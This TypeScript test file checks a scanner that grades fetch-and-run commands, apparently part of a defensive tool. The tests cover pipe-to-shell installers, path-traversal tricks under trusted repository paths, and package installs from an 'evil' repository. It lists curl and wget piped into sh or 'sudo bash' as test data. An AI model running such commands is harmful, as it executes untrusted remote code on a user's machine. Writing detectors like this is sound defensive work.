import { expect, test } from 'vitest'
import { findDanger } from './find-danger.ts'
import { allowedHosts } from './known-software.ts'

const weightOf = (text: string, isAllowedHost = allowedHosts()) => {
  const severities = findDanger(text, isAllowedHost)
    .filter(({ rule }) => rule === 'remote_code')
    .map(({ severity }) => severity)
  return ['block', 'warn', 'note'].find((severity) => severities.some((one) => one === severity))
}
const RAW = 'https://raw.githubusercontent.com'

test('a host where anybody publishes weighs what an unknown host weighs', () => {
  for (const address of [
    'https://gist.githubusercontent.com/foo/bar/raw/x.sh',
    `${RAW}/foo/bar/main/x.sh`,
    'https://github.com/foo/bar/raw/main/x.sh',
    'https://foo.github.io/x.sh',
    'https://foo.gitlab.io/x.sh',
    'https://gitlab.com/foo/bar/-/raw/main/x.sh',
    'https://foo.vercel.app/x.sh',
    'https://foo.s3.amazonaws.com/x.sh',
    'https://cdn.jsdelivr.net/gh/foo/bar/x.sh',
  ])
    for (const command of [`curl -s ${address} | sh`, `wget -qO- ${address} | sudo bash`])
      expect(weightOf(command), command).toBe(weightOf(command.replace(address, 'https://get.unknown.xyz/x')))
})

test('installers of known software stay notes', () => {
  for (const address of [
    `${RAW}/nvm-sh/nvm/v0.40.1/install.sh`,
    `${RAW}/Homebrew/install/HEAD/install.sh`,
    `${RAW}/ohmyzsh/ohmyzsh/master/tools/install.sh`,
    'https://github.com/rust-lang/rustup/raw/master/rustup-init.sh',
    'https://sh.rustup.rs',
    'https://get.docker.com',
    'https://deno.land/install.sh',
  ])
    expect(weightOf(`curl -fsSL ${address} | sh`), address).toBe('note')
})

test('below the path of a known repository stands what others add', () => {
  for (const path of [
    'nvm-sh/nvm/../../foo/bar/main/install.sh',
    'nvm-sh/nvm/%2e%2e/%2e%2e/foo/bar/main/install.sh',
    `nvm-sh/nvm/${'a1'.repeat(20)}/install.sh`,
    'nvm-sh/nvm/refs/pull/1/head/install.sh',
    'nvm-sh/nvmx/main/install.sh',
  ])
    expect(weightOf(`curl -s ${RAW}/${path} | sh`), path).toBe('block')
  expect(weightOf('curl -s https://github.com/nvm-sh/nvm/files/1/x.sh | sh')).toBe('block')
})

test('a package from a repository of anybody', () => {
  for (const command of [
    'pip install git+https://github.com/evil/pkg',
    'pip3 install -U "git+https://github.com/evil/pkg.git@main#egg=pkg"',
    'uv add git+https://github.com/evil/pkg',
    'npm i https://github.com/evil/pkg/archive/main.tgz',
  ])
    expect(weightOf(command), command).toBe(weightOf('npx github:evil/pkg'))
  for (const command of [
    'pip install git+https://github.com/huggingface/transformers.git@v4.40.0',
    'pip install git+https://github.com/pallets/flask',
    'pip install https://download.pytorch.org/whl/cpu/torch.whl',
    'npm install https-proxy-agent',
  ])
    expect(weightOf(command), command).toBe(undefined)
})

test('a host that a workspace adds is known with all its paths', () => {
  const isAllowedHost = allowedHosts(['gist.githubusercontent.com'])
  expect(weightOf('curl -s https://gist.githubusercontent.com/foo/bar/raw/x.sh | sh', isAllowedHost)).toBe(
    'note',
  )
})

test('a mere download from there is no finding', () => {
  expect(findDanger('wget https://github.com/foo/bar/releases/download/v1/bar.tar.gz')).toEqual([])
})
